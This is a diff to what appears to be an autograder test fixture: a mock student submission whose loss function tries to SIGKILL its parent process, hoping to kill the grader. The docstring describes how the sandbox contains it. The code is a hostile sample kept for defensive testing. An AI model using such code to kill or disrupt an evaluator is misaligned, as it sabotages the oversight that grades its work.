@@ -1,6 +1,7 @@
-"""hank: right gradients, but the loss tries to kill the grader: its parent process and that
-process's parent. It reaches only the sandbox's supervisor: this submission gets an error and the
-rest of the class is graded.
+"""hank: right gradients, but the loss tries to kill the process that started it, hoping it is
+the grader. As root, backcheck runs his code in a PID namespace of its own, where that process has
+no number: the kill fails and he is graded (2/2). Otherwise the process he kills is the sandbox's
+supervisor, never the grader: he gets an error (0/2). Either way the rest of the class is graded.
 """
 import os
 import signal
@@ -30,15 +31,10 @@ def loss(params, X, Y):
     _, P = forward(params, X)
     return -np.sum(Y * np.log(P)) / X.shape[0]
 def _kill_parents():
-    pid = os.getppid()
-    for _ in range(2):
-        try:
-            with open(f"/proc/{pid}/stat") as f:
-                parent = int(f.read().rsplit(")", 1)[1].split()[1])
-            os.kill(pid, signal.SIGKILL)
-        except (OSError, ValueError):
-            return
-        pid = parent
+    try:
+        os.kill(os.getppid(), signal.SIGKILL)
+    except OSError:
+        pass
 
 
 _loss = loss
